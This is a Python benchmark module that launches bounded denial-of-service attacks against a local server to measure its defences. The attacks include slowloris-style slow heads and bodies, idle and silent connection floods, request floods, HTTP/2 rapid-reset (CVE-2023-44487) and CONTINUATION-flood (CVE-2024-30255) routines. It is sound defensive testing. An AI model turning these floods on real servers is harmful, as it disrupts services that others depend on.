"""Callers who take much and give little, in a process of their own: `python -m bench.attackers KIND PORT SECONDS FILE`.

It says `ready` when the attack has begun, and at its end what became of it. FILE holds requests, as `bench.load.keep`
writes them. How much an attacker does is bounded, so that what others feel is the server's doing and not that of two
cores shared with the attacker.
"""

import asyncio
import contextlib
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any, Final

import msgspec

from bench.http2_frames import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PREFACE,
    RESET,
    SETTINGS,
    frame,
    get,
)

OPENING: Final = 32
"""Handshakes at once."""
SLOW_CONNECTIONS: Final = 500
IDLE_CONNECTIONS: Final = 9_900
"""As many as fit below the 10,000 that a listener takes unless the policy says otherwise."""
A_SECOND: Final = 50
"""Requests, where each is one blow."""
RESETS: Final = 400
"""Streams begun and cancelled on one connection, again and again."""
HEAD_BYTES: Final = 9
"""Of an HTTP/2 frame."""
DEFENCES: Final = {RESET: "reset", GOAWAY: "goaway"}
ENDLESS: Final = 64
"""CONTINUATION frames of 16 KiB on one connection."""


class Fate(msgspec.Struct):
    """What became of an attack."""

    made: int = 0
    """Connections or requests."""
    answers: dict[str, int] = {}
    """By status; `ended` where the server ended the connection without an answer."""
    first_end_s: float = 0.0
    """When the server ended the first of them; 0: none."""
    last_end_s: float = 0.0


class _Attack:
    """What all kinds share."""

    def __init__(self, port: int, seconds: float, requests: list[bytes]) -> None:
        self.port, self.seconds, self.requests = port, seconds, requests
        self.made = 0
        self.answers: Counter[str] = Counter()
        self.ends: list[float] = []
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self._context.set_alpn_protocols(["http/1.1"])
        self._began = time.monotonic()

    def begin(self) -> None:
        """Say that it has begun."""
        self._began = time.monotonic()
        sys.stdout.write("ready\n")
        sys.stdout.flush()

    @property
    def over(self) -> bool:
        """Whether its time is over."""
        return time.monotonic() - self._began > self.seconds

    async def connect(self, alpn: str = "http/1.1") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection."""
        if alpn == "http/1.1":
            context = self._context
        else:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([alpn])
        return await asyncio.open_connection("127.0.0.1", self.port, ssl=context, server_hostname="localhost")

    async def many(self, count: int) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Open many connections; those that are refused are counted as ended."""
        opened = []
        for first in range(0, count, OPENING):
            some = (self.connect() for _ in range(min(OPENING, count - first)))
            for one in await asyncio.gather(*some, return_exceptions=True):
                if isinstance(one, BaseException):
                    self.answers["refused at once"] += 1
                else:
                    opened.append(one)
        self.made = len(opened)
        return opened

    def ended(self, data: bytes, otherwise: str = "ended") -> None:
        """Note an answer, or what came instead."""
        self.ends.append(time.monotonic() - self._began)
        self.answers[data[9:12].decode("latin-1") if data.startswith(b"HTTP/1.1 ") else otherwise] += 1

    async def until_end(self, reader: asyncio.StreamReader) -> None:
        """Wait for the server's answer or its end of the connection, as long as the attack takes."""
        left = self.seconds - (time.monotonic() - self._began)
        try:
            self.ended(await asyncio.wait_for(reader.read(65_536), max(0.01, left)))
        except TimeoutError:
            return
        except OSError:
            self.ended(b"")

    def fate(self) -> Fate:
        """Return what became of it."""
        first, last = (min(self.ends), max(self.ends)) if self.ends else (0.0, 0.0)
        return Fate(self.made, dict(self.answers), round(first, 2), round(last, 2))


async def _byte_by_byte(attack: _Attack, beginning: list[bytes], rest: bytes) -> None:
    """Send the beginning of a request, and then a byte a second."""
    opened = await attack.many(min(SLOW_CONNECTIONS, len(beginning)))
    attack.begin()
    for (_, writer), data in zip(opened, beginning, strict=False):
        writer.write(data)

    async def drip(writer: asyncio.StreamWriter) -> None:
        for number in range(10_000):
            await asyncio.sleep(1)
            if attack.over or writer.is_closing():
                return
            writer.write(rest[number % len(rest) :][:1])

    drips = [asyncio.create_task(drip(writer)) for _, writer in opened]
    await asyncio.gather(*(attack.until_end(reader) for reader, _ in opened))
    for task in drips:
        task.cancel()


async def slow_heads(attack: _Attack) -> None:
    """Request heads that never end."""
    await _byte_by_byte(attack, [b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "] * SLOW_CONNECTIONS, b"a")


async def slow_bodies(attack: _Attack) -> None:
    """Good requests whose bodies never end; the file's requests are cut before their last hundred bytes."""
    await _byte_by_byte(attack, [request[:-100] for request in attack.requests], b" ")


async def silent(attack: _Attack) -> None:
    """Connections on which not even TLS begins."""
    loop = asyncio.get_running_loop()
    peers = []
    for _ in range(SLOW_CONNECTIONS):
        peer = socket.socket()
        peer.setblocking(False)  # noqa: FBT003 - the library's signature
        await loop.sock_connect(peer, ("127.0.0.1", attack.port))
        peers.append(peer)
    attack.made = len(peers)
    attack.begin()

    async def wait(peer: socket.socket) -> None:
        with contextlib.suppress(TimeoutError):
            attack.ended(await asyncio.wait_for(loop.sock_recv(peer, 1), attack.seconds))
        peer.close()

    await asyncio.gather(*(wait(peer) for peer in peers), return_exceptions=True)


async def idle(attack: _Attack) -> None:
    """As many connections as there may be, on which nothing happens."""
    opened = await attack.many(IDLE_CONNECTIONS)
    attack.begin()
    await asyncio.sleep(attack.seconds)
    attack.answers["ended"] += sum(reader.at_eof() for reader, _ in opened)


async def blows(attack: _Attack) -> None:
    """The file's requests, each on its turn, on a few connections."""
    attack.begin()
    for request in attack.requests:
        if attack.over:
            return
        next_at = time.monotonic() + 1 / A_SECOND
        reader, writer = await attack.connect()
        attack.made += 1
        with contextlib.suppress(OSError):
            writer.write(request)
            await asyncio.wait_for(writer.drain(), 10)
        with contextlib.suppress(OSError, TimeoutError):
            attack.ended(await asyncio.wait_for(reader.read(65_536), 10))
        writer.transport.abort()
        await asyncio.sleep(max(0.0, next_at - time.monotonic()))


async def _outcome(reader: asyncio.StreamReader) -> str:
    """Return how the server defends itself: `reset` of a stream, `goaway`, or `ended` where it ends the connection."""
    while head := await reader.read(HEAD_BYTES):
        head += await reader.readexactly(HEAD_BYTES - len(head))
        await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] in DEFENCES:
            return DEFENCES[head[3]]
    return "ended"


async def _http2(attack: _Attack, flood: Callable[[], bytes]) -> None:
    attack.begin()
    while not attack.over:
        reader, writer = await attack.connect("h2")
        attack.made += 1
        began = time.monotonic()
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + flood())
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            await asyncio.wait_for(writer.drain(), 5)
            attack.ended(b"", await asyncio.wait_for(_outcome(reader), 5))
        writer.transport.abort()
        await asyncio.sleep(max(0.0, 0.2 - (time.monotonic() - began)))


async def rapid_resets(attack: _Attack) -> None:
    """HTTP/2 streams that are cancelled as soon as they have begun (CVE-2023-44487)."""
    head = get(f"localhost:{attack.port}", "/")

    def flood() -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + frame(RESET, 0, stream, CANCEL.to_bytes(4, "big"))
            for stream in range(1, 2 * RESETS, 2)
        )

    await _http2(attack, flood)


async def endless_heads(attack: _Attack) -> None:
    """An HTTP/2 head that goes on in frame after frame (CVE-2024-30255)."""
    head = get(f"localhost:{attack.port}", "/")
    more = get(f"localhost:{attack.port}", "/", (b"x", b"a" * 16_000))[len(head) :]
    flood = frame(HEADERS, END_STREAM, 1, head) + frame(CONTINUATION, 0, 1, more) * ENDLESS
    await _http2(attack, lambda: flood)


KINDS: Final[dict[str, Callable[[_Attack], Awaitable[None]]]] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "silent connections": silent,
    "idle connections": idle,
    "rapid resets": rapid_resets,
    "endless heads": endless_heads,
}
"""All others are `blows`."""


def _requests(file: Path) -> list[bytes]:
    data, found = file.read_bytes(), []
    while data:
        length = int(data[:10])
        found.append(data[10 : 10 + length])
        data = data[10 + length :]
    return found


def main() -> None:
    """Attack."""
    kind, port, seconds, file = sys.argv[1:]
    attack = _Attack(int(port), float(seconds), _requests(Path(file)))
    run: Any = KINDS.get(kind, blows)
    asyncio.run(run(attack))
    sys.stdout.write(msgspec.json.encode(attack.fate()).decode() + "\n")


if __name__ == "__main__":
    main()
